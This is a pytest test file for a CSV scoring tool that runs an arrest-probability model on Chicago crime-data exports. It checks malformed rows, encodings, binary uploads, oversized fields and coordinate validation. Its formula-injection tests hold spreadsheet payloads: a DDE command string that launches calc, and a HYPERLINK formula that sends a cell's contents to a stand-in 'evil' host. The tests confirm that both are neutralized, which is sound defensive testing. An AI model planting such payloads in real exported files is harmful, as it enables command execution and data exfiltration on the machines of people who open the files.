"""The CSV scorer's reading, row checks and writing, with a small real model (no database).

The champion from the registry and the mart's features are exercised end to end in
test_ml_models.py; here a model trained in a second on generated rows stands in for it, so
each defect of the file handling has a quick test of its own.
"""

import csv
import io
import zipfile
from pathlib import Path

import numpy as np
import pytest

from crimewh.quality.codes import CHICAGO_LATITUDE, CHICAGO_LONGITUDE
from crimewh.settings import project_dir
from ml.csv_scoring import (
    MAX_FIELD_CHARS,
    SCORER_COLUMNS,
    neutralize_cell,
    score_csv_file,
    score_rows,
)
from ml.db import MLError
from ml.features import FittedFeatures, arrest_spec, chicago_source_features
from ml.registry import LoadedModel
from testkit.chicago_synth import synthesize

# the portal's CSV export header, and two of its rows (as in test_ml_features.py)
HEADER = [
    "ID", "Case Number", "Date", "Block", "IUCR", "Primary Type", "Description",
    "Location Description", "Arrest", "Domestic", "Beat", "District", "Ward", "Community Area",
    "FBI Code", "X Coordinate", "Y Coordinate", "Year", "Updated On", "Latitude", "Longitude",
    "Location",
]  # fmt: skip
ROW = [
    "14031121", "JJ492014", "11/16/2025 11:00:00 PM", "049XX S PRAIRIE AVE", "0810", "THEFT",
    "OVER $500", "RESIDENCE", "false", "true", "0224", "002", "3", "38", "06", "1178876",
    "1872367", "2025", "11/22/2025 03:41:52 PM", "41.805072258", "-87.619480201",
    "(41.805072258, -87.619480201)",
]  # fmt: skip
COLUMN = {name: i for i, name in enumerate(HEADER)}
SEEDS = project_dir() / "dbt_project" / "seeds"  # Chicago's location groups, as dbt has them
BLOCK = "049XX S PRAIRIE AVE \u2013 CAF\u00c9 \u20ac"  # an en dash, an accent, the euro sign


@pytest.fixture(scope="module")
def model() -> LoadedModel:
    """An arrest model of ten shallow trees on generated rows: real features, real XGBoost."""
    import xgboost as xgb

    wire = synthesize(3000, seed=4, years=(2023, 2025)).table
    columns = {name: wire.column(name).to_pylist() for name in wire.column_names}
    spec = arrest_spec(exclude_on_view=False)
    source = chicago_source_features(columns, spec, SEEDS)
    assert not source.errors
    fitted = FittedFeatures.fit(spec, source.table)
    label = np.array([value == "true" for value in columns["arrest"]], dtype=np.float32)
    booster = xgb.train(
        {"objective": "binary:logistic", "max_depth": 3, "nthread": 1},
        fitted.dmatrix(source.table, label=label, nthread=1),
        num_boost_round=10,
    )
    return LoadedModel("arrest", "arrest-test-1", {}, fitted, booster, seeds_dir=SEEDS)


def row(**changes) -> list[str]:
    """``ROW`` with some columns changed, by header name (spaces as underscores)."""
    out = list(ROW)
    for name, value in changes.items():
        out[COLUMN[name.replace("_", " ")]] = value
    return out


def write_csv(path: Path, header, rows, encoding="utf-8") -> Path:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def read_output(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


# -- 1. rows with the wrong number of fields -----------------------------------------------------
def test_rows_with_too_many_or_too_few_fields_keep_their_own_columns(model, tmp_path):
    first = row(Description="OVER $500\nTWO LINES")  # a quoted field over two lines
    long = [*ROW, "extra"]
    short = ROW[:6]
    path = write_csv(tmp_path / "crimes.csv", HEADER, [first, long, short, ROW])
    result = score_csv_file(model, path)

    written = read_output(tmp_path / "crimes.scored.csv")
    assert written[0] == [*HEADER, *SCORER_COLUMNS]
    assert all(len(cells) == len(HEADER) + len(SCORER_COLUMNS) for cells in written)
    body = [dict(zip(written[0], cells, strict=True)) for cells in written[1:]]
    assert [cells[: len(HEADER)] for cells in written[1:]] == [
        first, ROW, [*short, *[""] * (len(HEADER) - 6)], ROW
    ]  # fmt: skip
    assert body[1]["Description"] == "OVER $500"  # not an error text
    assert body[1]["arrest_probability"] == ""  # not 'extra'
    assert body[1]["error"] == (
        "line 4 has 23 fields but the header has 22: the extra 'extra' is left out; "
        "quote a field that holds a comma"
    )
    assert body[2]["arrest_probability"] == ""
    assert body[2]["error"].startswith("line 5 has 6 fields but the header has 22")
    for scored in (body[0], body[3]):
        assert scored["error"] == ""
        assert 0 < float(scored["arrest_probability"]) < 1
        assert scored["model_version"] == "arrest-test-1"
    assert result["rows"] == 4
    assert result["scored"] == 2
    assert [(e["row"], e["line"]) for e in result["errors"]] == [(2, 4), (3, 5)]


# -- 2. formula injection ------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-87.619480201", "-87.619480201"),  # a number stays a number
        ("-42", "-42"),
        ("-1.5e3", "-1.5e3"),
        ("0.25", "0.25"),
        ("THEFT", "THEFT"),
        ("", ""),
        ("'=already quoted", "'=already quoted"),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralized(cell, written):
    assert neutralize_cell(cell) == written


def test_the_written_file_carries_no_formula(model, tmp_path):
    rows = [
        row(Block='=HYPERLINK("http://evil/"&A1,"x")', Description="-1+1"),
        row(Description="@SUM(A1:A9)", Location="+cmd"),
        row(Date="=NOW()"),  # a bad date: its error quotes the value
    ]
    path = write_csv(tmp_path / "crimes.csv", [*HEADER, "=Notes"], [[*r, "-cmd"] for r in rows])
    score_csv_file(model, path, tmp_path / "out.csv")
    written = read_output(tmp_path / "out.csv")
    assert written[0][len(HEADER)] == "'=Notes"
    for cells in written:
        for cell in cells:
            assert not cell or cell[0] not in "=+-@\t\r" or float(cell) <= 0, cell
    first, second, third = (dict(zip(written[0], c, strict=True)) for c in written[1:])
    assert first["Block"] == '\'=HYPERLINK("http://evil/"&A1,"x")'
    assert first["Description"] == "'-1+1"
    assert first["Longitude"] == "-87.619480201"  # a number, as it came
    assert first["'=Notes"] == "'-cmd"
    assert second["Description"] == "'@SUM(A1:A9)"
    assert second["Location"] == "'+cmd"
    assert third["Date"] == "'=NOW()"
    assert "date '=NOW()' is not a date" in third["error"]
    # every cell quoted, so a spreadsheet that splits on ';' cannot start a cell mid-field
    raw = (tmp_path / "out.csv").read_text(encoding="utf-8").splitlines()[1]
    assert raw.startswith('"14031121","JJ492014",')


# -- 3. encodings, binary files, huge fields -----------------------------------------------------
@pytest.mark.parametrize(
    ("encoding", "reported", "block"),
    [
        ("utf-8", "utf-8", BLOCK),
        ("utf-8-sig", "utf-8-sig", BLOCK),
        ("utf-16", "utf-16", BLOCK),
        ("cp1252", "cp1252", BLOCK),
        ("latin-1", "cp1252", "049XX S PRAIRIE AVE \u00a6 CAF\u00c9"),  # cp1252 reads latin-1 text
    ],
)
def test_text_in_common_encodings_is_read(model, tmp_path, encoding, reported, block):
    rows = [row(Block=block), row(Primary_Type="BATTERY")]
    path = write_csv(tmp_path / "crimes.csv", HEADER, rows, encoding=encoding)
    result = score_csv_file(model, path, tmp_path / "out.csv")
    assert result["encoding"] == reported
    assert result["scored"] == 2
    written = read_output(tmp_path / "out.csv")
    assert written[0][: len(HEADER)] == HEADER  # no BOM left on the first name
    assert written[1][COLUMN["Block"]] == block
    baseline = write_csv(tmp_path / "utf8.csv", HEADER, rows)
    score_csv_file(model, baseline, tmp_path / "utf8-out.csv")
    assert written == read_output(tmp_path / "utf8-out.csv")


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("crimes.csv", ",".join(HEADER))
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (_zip_bytes(), "a ZIP archive"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "a PNG image"),
        (b"ID,Date\n1,\x00\x00\x002\n", "NUL bytes"),
        (",".join(HEADER).encode("utf-16-le"), "UTF-16 without a byte order mark"),
        (bytes(range(1, 32)) * 40, "control characters"),
    ],
)
def test_a_binary_file_is_refused_in_one_line(model, tmp_path, content, why):
    path = tmp_path / "upload.csv"
    path.write_bytes(content)
    with pytest.raises(MLError) as refused:
        score_csv_file(model, path, tmp_path / "out.csv")
    message = str(refused.value)
    assert message.startswith(f"{path} is not a CSV text file")
    assert why in message
    assert "\n" not in message
    assert not (tmp_path / "out.csv").exists()


def test_a_huge_field_is_a_row_error_not_a_traceback(model, tmp_path):
    huge = "X" * 2_000_000
    path = write_csv(tmp_path / "crimes.csv", HEADER, [ROW, row(Description=huge), ROW])
    result = score_csv_file(model, path, tmp_path / "out.csv")
    assert result["scored"] == 2
    [error] = result["errors"]
    assert error["row"] == 2
    assert error["fields"] == ["description"]
    assert error["error"] == (
        f"description has 2,000,000 characters; the most a field may hold is "
        f"{MAX_FIELD_CHARS:,}, so it is left out of this output"
    )
    written = read_output(tmp_path / "out.csv")
    assert written[2][COLUMN["Description"]] == ""  # not echoed back
    assert written[1] == written[3]
    assert written[2][-1] == error["error"]


def test_a_quote_left_open_at_the_end_is_a_short_row(model, tmp_path):
    path = tmp_path / "crimes.csv"
    path.write_text(",".join(HEADER) + "\n" + ",".join(ROW[:3]) + ',"THEFT\n')
    result = score_csv_file(model, path, tmp_path / "out.csv")
    [error] = result["errors"]
    assert error["line"] == 2
    assert "4 fields but the header has 22" in error["error"]


# -- 4. coordinates ------------------------------------------------------------------------------
def test_coordinates_outside_chicago_or_not_numbers_are_row_errors(model):
    low, high = CHICAGO_LATITUDE
    west, east = CHICAGO_LONGITUDE
    placeholder = row(
        X_Coordinate="0", Y_Coordinate="0", Latitude="36.619446395", Longitude="-91.686565684"
    )
    portal_rows = [
        ROW,
        row(Latitude="50.1"),
        row(Longitude="-80.0"),
        row(Y_Coordinate="north"),
        row(X_Coordinate="east"),
        row(Longitude=""),
        placeholder,  # the geocoder's X = Y = 0 point is "no location", as in the warehouse
    ]
    api_rows = [  # the API's field names and JSON numbers work as well
        {"date": "2025-11-16T23:00:00", "primary_type": "THEFT", "latitude": 41.9,
         "longitude": -87.7},
        {"date": "2025-11-16T23:00:00", "primary_type": "THEFT", "latitude": 41.9,
         "longitude": -87.4},
    ]  # fmt: skip
    rows = [*(dict(zip(HEADER, r, strict=True)) for r in portal_rows), *api_rows]
    scores = score_rows(model, rows)
    assert [s.probability is not None for s in scores] == [
        True, False, False, False, False, False, True, True, False
    ]  # fmt: skip
    assert [[e.field for e in s.errors] for s in scores] == [
        [], ["latitude"], ["longitude"], ["y_coordinate"], ["x_coordinate"], ["longitude"], [],
        [], ["longitude"],
    ]  # fmt: skip
    assert scores[1].errors[0].message == f"latitude '50.1' is outside Chicago ({low} to {high})"
    assert scores[2].errors[0].message == (
        f"longitude '-80.0' is outside Chicago ({west} to {east})"
    )
    assert scores[3].errors[0].message == "y_coordinate 'north' is not a number"
    assert scores[5].errors[0].message == "longitude is empty but latitude is given"
    assert 0 < scores[0].probability < 1


def test_rows_from_a_file_and_from_dicts_score_the_same(model, tmp_path):
    rows = [ROW, row(Primary_Type="BATTERY", Latitude="41.95"), row(Latitude="60")]
    path = write_csv(tmp_path / "crimes.csv", HEADER, rows)
    result = score_csv_file(model, path, tmp_path / "out.csv")
    from_file = [cells[-3] for cells in read_output(tmp_path / "out.csv")[1:]]
    from_dicts = score_rows(model, [dict(zip(HEADER, r, strict=True)) for r in rows])
    assert from_file[:2] == [f"{s.probability:.6f}" for s in from_dicts[:2]]
    assert from_file[2] == ""
    assert from_dicts[2].probability is None
    assert result["errors"] == [
        {"row": 3, "line": 4, "fields": ["latitude"],
         "error": f"latitude '60' is outside Chicago ({CHICAGO_LATITUDE[0]} to "
                  f"{CHICAGO_LATITUDE[1]})"},
    ]  # fmt: skip


def test_the_command_line_refuses_a_binary_file_before_loading_a_model(
    tmp_path, monkeypatch, capsys
):
    from crimewh.settings import settings
    from crimewh_orchestration.cli import main

    monkeypatch.setenv("CRIMEWH_DATA_DIR", str(tmp_path))
    path = tmp_path / "photo.csv"
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    try:
        assert main(["score", "arrest", "--file", str(path)]) == 1
    finally:
        settings.cache_clear()
    [error] = capsys.readouterr().err.strip().splitlines()
    assert error.startswith(f"crimewh score arrest: {path} is not a CSV text file: it is a PNG")
